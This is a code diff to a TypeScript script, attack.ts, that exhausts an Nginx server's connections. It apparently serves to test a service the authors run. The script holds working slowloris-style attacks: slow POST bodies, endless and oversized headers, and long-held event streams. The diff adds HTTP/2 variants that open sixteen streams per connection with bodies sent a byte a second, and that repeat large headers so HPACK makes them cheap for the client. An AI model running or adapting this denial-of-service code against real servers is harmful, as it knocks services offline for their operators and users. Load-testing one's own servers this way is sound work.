@@ -1,6 +1,7 @@
 // Runs in a container of its own, so that it comes from an address of its own: node attack.ts KIND HOST PORT CONNECTIONS.
 // Opens connections that misuse Nginx, and again each one that ends. Prints "at the maximum" when all were open once, and what
 // came of them when standard input ends.
+import { type ClientHttp2Stream, connect as connectHttp2, type OutgoingHttpHeaders } from 'node:http2';
 import { connect as connectTls } from 'node:tls';
 
 /** What came of an attack. */
@@ -17,6 +18,10 @@ const INTERVAL_MS = 1000;
 const RECONNECT_MS = 4000;
 const LARGE = 'h'.repeat(60_000);
 const HEAD = 'HTTP/1.1\r\nHost: mooring';
+/** As many as Nginx allows on one connection by default. */
+const HTTP2_STREAMS = 16;
+/** One field that fits into HPACK's table, so that each further one costs the client a byte. */
+const REPEATED = Array.from({ length: 15 }, () => 'h'.repeat(3900));
 
 const outcome: AttackOutcome = { opened: 0, closed: 0, statuses: {} };
 let untried = Number(connections);
@@ -51,11 +56,43 @@ function attackByBytes(first: string, isFirstTry = true): void {
   });
 }
 
+/** Opens streams on a connection of HTTP/2 whose bodies come a byte a second. */
+function attackByStreams(headers: OutgoingHttpHeaders, isFirstTry = true): void {
+  const session = connectHttp2(`https://${host}:${port}`, { rejectUnauthorized: false });
+  const streams: ClientHttp2Stream[] = [];
+  const interval = setInterval(() => {
+    for (const stream of streams) stream.write('x');
+  }, INTERVAL_MS);
+  // Nginx refuses streams with a body before its settings are acknowledged, which Node does when it has them.
+  session.once('remoteSettings', () => {
+    outcome.opened++;
+    if (isFirstTry) noteFirstTry();
+    for (let nth = 0; nth < HTTP2_STREAMS; nth++) {
+      const stream = session.request(
+        { ':method': 'POST', 'content-length': '1000000', ...headers },
+        { endStream: false },
+      );
+      stream.on('response', (answer) => count(`${answer[':status']}`));
+      stream.on('error', () => {}).resume();
+      streams.push(stream);
+    }
+  });
+  session.on('error', () => {});
+  session.on('close', () => {
+    if (isFirstTry && streams.length === 0) noteFirstTry();
+    outcome.closed++;
+    clearInterval(interval);
+    setTimeout(attackByStreams, RECONNECT_MS, headers, false);
+  });
+}
+
 const ATTACKS: Record<string, () => void> = {
   'slow bodies': () => attackByBytes(`POST / ${HEAD}\r\nContent-Length: 1000000\r\n\r\n`),
   'headers that never end': () => attackByBytes(`GET / ${HEAD}\r\nX: ${LARGE}`),
   'headers that are too large': () => attackByBytes(`GET / ${HEAD}\r\nX: ${LARGE}\r\nY: ${LARGE}\r\n\r\n`),
   'large requests that wait': () => attackByBytes(`GET /wait ${HEAD}\r\nX: ${LARGE}\r\n\r\n`),
+  'slow bodies in HTTP/2': () => attackByStreams({}),
+  'large headers, slow bodies in HTTP/2': () => attackByStreams({ x: REPEATED }),
   'open event streams': () => attackByBytes(`GET /wait ${HEAD}\r\nAccept: text/event-stream\r\n\r\n`),
 };
 
